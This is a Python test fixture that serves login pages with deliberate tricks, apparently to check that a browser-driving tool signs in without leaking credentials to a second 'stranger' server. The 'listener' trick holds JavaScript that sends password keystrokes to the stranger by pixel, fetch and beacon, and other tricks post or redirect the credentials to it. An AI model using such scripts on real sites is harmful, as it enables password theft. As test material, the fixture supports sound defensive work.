"""Login pages that a browser alone can use, each with a trick of its own, and a stranger who listens."""

from __future__ import annotations

import secrets
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Final

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, RedirectResponse, Response
from starlette.routing import Route

from tests.support.posted import posted_fields
from tests.support.web_server import serve_app

USER: Final = "crawler"
PASSWORD: Final = "lantern-and-tide-4-oars"

_FIELDS: Final = (
    "<label for=u>User name</label><input id=u name=u autocomplete=username>"
    "<label for=p>Password</label><input id=p name=p type=password autocomplete=current-password>"
)
_FORM: Final = f"<form method=post action=/session>{_FIELDS}<button>Sign in</button></form>"
_TRICKS: Final[Mapping[str, tuple[str, str]]] = {
    "plain": (_FORM, ""),
    "banner": (
        _FORM + '<div id=cookie-banner role=dialog style="position:fixed;inset:0;background:white">'
        "We use cookies. <button type=button id=settings>Settings</button>"
        "<button type=button id=yes>Accept all</button></div>",
        "$('yes').onclick = () => $('cookie-banner').remove();",
    ),
    "hidden step": (
        "<form method=post action=/session><div id=one><label for=u>User name</label>"
        "<input id=u name=u autocomplete=username><button type=button id=next>Next</button></div>"
        "<div id=two class=away><label for=p>Password</label><input id=p name=p type=password>"
        "<button>Sign in</button></div></form>",
        "$('next').onclick = () => { $('one').className = 'away'; $('two').className = ''; };",
    ),
    "likeness": (
        f"{_FIELDS}<div role=button id=go>Sign in</div>"
        "<form method=post action=/session class=away><input name=u><input name=p></form>",
        "$('go').onclick = () => { form().u.value = $('u').value; form().p.value = $('p').value;"
        "form().submit(); };",
    ),
    "late": (
        _FORM,
        "form().onsubmit = event => { event.preventDefault();"
        "form().querySelector('button').textContent = 'Please wait';"
        "setTimeout(() => form().submit(), 1500); };",
    ),
    "frame": ("<h1>Welcome</h1><iframe src=/framed width=500 height=300></iframe>", ""),
    "framed": (_FORM.replace("method=post", "method=post target=_top"), ""),
    "stranger's frame": ("<h1>Welcome</h1><iframe src='STRANGER/framed' width=500></iframe>", ""),
    "stranger's action": (_FORM.replace("/session", "STRANGER/session"), ""),
    "carried off": (_FORM.replace("/session", "/carried-off"), ""),
    "listener": (
        _FORM,
        "$('p').addEventListener('input', event => { const said = event.target.value;"
        "new Image().src = 'STRANGER/pixel?' + encodeURIComponent(said);"
        "fetch('STRANGER/tell', {method: 'POST', mode: 'no-cors', body: said}).catch(() => 0);"
        "navigator.sendBeacon('STRANGER/beacon', btoa(said)); });",
    ),
    "told again": (
        _FORM + "<p id=out></p>",
        "form().onsubmit = event => { event.preventDefault(); form().p.type = 'text'; $('out').className ="
        " 'error'; $('out').textContent = 'This is not the password: ' + form().p.value; };",
    ),
}
"""By name: what a script draws into the page, and what it does then."""
_PAGE: Final = """<!doctype html><title>Sign in</title><style>.away {display: none}</style><div id=root></div>
<script>const $ = id => document.getElementById(id), form = () => document.querySelector('form');
setTimeout(() => { $('root').innerHTML = `%s`; %s }, 50)</script>"""


@dataclass
class TrickySite:
    """`/login` plays the `trick`; the right credentials at `/session` sign in.

    `stranger` is the address of a server that nobody named; `told` holds what either was sent.
    """

    address: str
    stranger: str = ""
    trick: str = "plain"
    told: list[tuple[str, str]] = field(default_factory=list)
    sessions: set[str] = field(default_factory=set)

    def reset(self, trick: str) -> None:
        """Play another trick, and forget what was told."""
        self.trick = trick
        self.told.clear()

    def told_to(self, who: str) -> str:
        """All that the ``site`` or the ``stranger`` was sent in addresses and bodies."""
        return "\n".join(text for asked, text in self.told if asked == who)

    def application(self, who: str) -> Starlette:
        """The site, or the stranger, who has a login form as well."""

        async def answer(request: Request) -> Response:
            body = (await request.body()).decode()
            self.told.append((who, f"{request.method} {request.url.path}?{request.url.query} {body}"))
            return await self._answer(request, who)

        return Starlette(routes=[Route("/{path:path}", answer, methods=["GET", "POST"])])

    async def _answer(self, request: Request, who: str) -> Response:
        match who, request.url.path:
            case _, "/framed":
                return self._page("framed")
            case "stranger", _:
                return HTMLResponse("<!doctype html><title>Elsewhere</title><p>Thank you.</p>")
            case _, "/login":
                return self._page(self.trick)
            case _, "/carried-off":
                return RedirectResponse(f"{self.stranger}/taken", status_code=307)
            case _, "/session":
                return await self._session(request)
        return self._inside(request)

    def _inside(self, request: Request) -> Response:
        if request.cookies.get("tricky") in self.sessions:
            return HTMLResponse("<!doctype html><title>Inside</title><h1>Inside</h1><p>Tide tables.</p>")
        return RedirectResponse("/login", status_code=302)

    async def _session(self, request: Request) -> Response:
        form = await posted_fields(request)
        if (form.get("u"), form.get("p")) != (USER, PASSWORD):
            return HTMLResponse(_PAGE % ("<p class=error>Wrong password.</p>" + _FORM, ""))
        token = secrets.token_urlsafe(8)
        self.sessions.add(token)
        response = RedirectResponse("/", status_code=303)
        response.set_cookie("tricky", token)
        return response

    def _page(self, trick: str) -> HTMLResponse:
        return HTMLResponse((_PAGE % _TRICKS[trick]).replace("STRANGER", self.stranger))


@contextmanager
def serve_tricky_logins() -> Iterator[TrickySite]:
    """Serve the site, and the stranger under the name ``localhost``, until the block ends."""
    site = TrickySite("")

    with serve_app(lambda _address: site.application("site")) as address:
        site.address = address
        with serve_app(lambda _address: site.application("stranger")) as stranger:
            site.stranger = stranger.replace("127.0.0.1", "localhost")
            yield site
